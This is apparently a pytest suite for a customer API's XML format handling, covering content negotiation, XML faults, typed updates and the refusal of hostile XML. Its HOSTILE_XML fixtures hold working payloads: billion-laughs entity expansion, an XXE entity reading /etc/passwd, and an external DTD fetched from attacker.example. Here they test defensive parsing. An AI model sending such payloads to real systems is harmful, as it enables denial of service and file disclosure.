"""XML: "Formats: json, xml" on every endpoint, by ``Accept``, ``format`` and the request
document's ``Content-Type``; faults in XML too; hostile XML refused (defused parsing)."""

import pytest
from lxml import etree

from customers.models import Customer, CustomerAddress
from tests.conftest import api_url

pytest_plugins = ["tests.fixtures_owned"]


def xml_of(response):
    assert response["Content-Type"].split(";")[0] in ("application/xml", "text/xml")
    return etree.fromstring(response.content)


def get(client, path, token, **extra):
    return client.generic("GET", api_url(path), HTTP_AUTHORIZATION=f"Bearer {token}", **extra)


def send_xml(client, method, path, body, token, content_type="application/xml"):
    return client.generic(
        method, api_url(path), body, content_type=content_type,
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("extra", "media_type"),
    [
        ({"HTTP_ACCEPT": "application/xml"}, "application/xml"),
        ({"HTTP_ACCEPT": "text/xml"}, "text/xml"),
        ({"QUERY_STRING": "format=xml"}, "application/xml"),
    ],
)
def test_the_customer_document_in_xml(client, customer, token, extra, media_type):
    customer.custom = {"tier": "gold"}
    customer.save()
    path = f"customers/{customer.customer_id}"
    if "QUERY_STRING" in extra:
        path += "?" + extra.pop("QUERY_STRING")

    response = get(client, path, token, **extra)

    assert response.status_code == 200
    assert response["Content-Type"].startswith(media_type)
    root = xml_of(response)
    assert root.tag == "customer"
    assert root.get("_v") == "19.5" and root.get("_type") == "customer"
    assert (
        root.get("_resource_state")
        == client.call("GET", path.split("?")[0], token=token).json()["_resource_state"]
    )
    assert root.findtext("customer_id") == customer.customer_id
    assert root.findtext("login") == "jsmith"
    assert root.findtext("c_tier") == "gold"


def test_a_list_is_one_element_per_entry(client, customer, token, add_address):
    add_address(customer, "home")
    add_address(customer, "work")

    response = get(client, f"customers/{customer.customer_id}/addresses?format=xml", token)

    root = xml_of(response)
    assert root.tag == "customer_address_result"
    assert root.findtext("count") == "2"
    entries = root.findall("data")
    assert [entry.findtext("address_id") for entry in entries] == ["home", "work"]
    assert all(entry.get("_type") == "customer_address" for entry in entries)


def test_faults_are_xml_when_xml_is_asked_for(client, customer, token):
    response = get(client, f"customers/{customer.customer_id}/addresses/none?format=xml", token)
    unknown_path = client.generic("GET", api_url("no/such?format=xml"))

    assert response.status_code == 404
    root = xml_of(response)
    assert root.tag == "fault" and root.get("_v") == "19.5"
    assert root.findtext("fault/type") == "CustomerAddressNotFoundException"
    assert root.findtext("fault/arguments/addressId") == "none"
    assert unknown_path.status_code == 404
    assert xml_of(unknown_path).findtext("fault/type") == "ResourcePathNotFoundException"


def test_an_xml_document_updates_with_typed_properties(client, customer, token):
    body = (
        '<?xml version="1.0" encoding="UTF-8"?><customer><first_name>Jöhn</first_name>'
        "<gender>1</gender><phone_home>0123</phone_home><c_origin>app</c_origin></customer>"
    )

    response = send_xml(client, "PATCH", f"customers/{customer.customer_id}", body, token)

    assert response.status_code == 200, response.content
    root = xml_of(response)  # Content-Type decides the answer's format
    assert root.findtext("first_name") == "Jöhn"
    stored = Customer.objects.get(pk=customer.pk)
    assert (stored.first_name, stored.gender, stored.phone_home) == ("Jöhn", 1, "0123")
    assert stored.custom == {"origin": "app"}


def test_an_xml_document_creates_an_address_with_text_xml(client, customer, token):
    body = (
        "<customer_address><address_id>home</address_id><last_name>Smith</last_name>"
        "<city>Boston</city><country_code>US</country_code></customer_address>"
    )

    response = send_xml(
        client, "POST", f"customers/{customer.customer_id}/addresses", body, token, "text/xml"
    )

    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/xml")
    assert CustomerAddress.objects.get(customer=customer).city == "Boston"


def test_a_wrongly_typed_xml_value_is_a_fault_in_xml(client, customer, token):
    body = "<customer><gender>often</gender></customer>"

    response = send_xml(client, "PATCH", f"customers/{customer.customer_id}", body, token)

    assert response.status_code == 400
    assert xml_of(response).findtext("fault/type") == "PropertyConstraintViolationException"


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">' for i in range(1, 10))
    + "]><customer><first_name>&lol9;</first_name></customer>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<customer><first_name>&xxe;</first_name></customer>"
)
HOSTILE_XML = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "external-dtd": '<!DOCTYPE c SYSTEM "http://attacker.example/x.dtd"><customer/>',
    "deep": "<customer>" + "<c_deep>" * 1000 + "x" + "</c_deep>" * 1000 + "</customer>",
    "not-well-formed": "<customer><first_name>x</customer>",
    "undefined-entity": "<customer><first_name>&nope;</first_name></customer>",
    "nul-reference": "<customer><first_name>a&#0;b</first_name></customer>",
}


@pytest.mark.parametrize("kind", HOSTILE_XML)
def test_hostile_xml_is_refused_with_a_fault(client, customer, token, kind):
    response = send_xml(
        client, "PATCH", f"customers/{customer.customer_id}", HOSTILE_XML[kind], token
    )

    assert response.status_code == 400, response.content[:300]
    assert xml_of(response).findtext("fault/type") == "MalformedDocumentException"
    stored = Customer.objects.get(pk=customer.pk)
    assert "lol" not in (stored.first_name or "") and "root" not in (stored.first_name or "")


def test_a_huge_xml_body_is_a_413(client, customer, token, settings):
    body = "<customer><c_pad>" + "x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE + "</c_pad></customer>"

    response = send_xml(client, "PATCH", f"customers/{customer.customer_id}", body, token)

    assert response.status_code == 413
    assert xml_of(response).findtext("fault/type") == "RequestEntityTooLargeException"
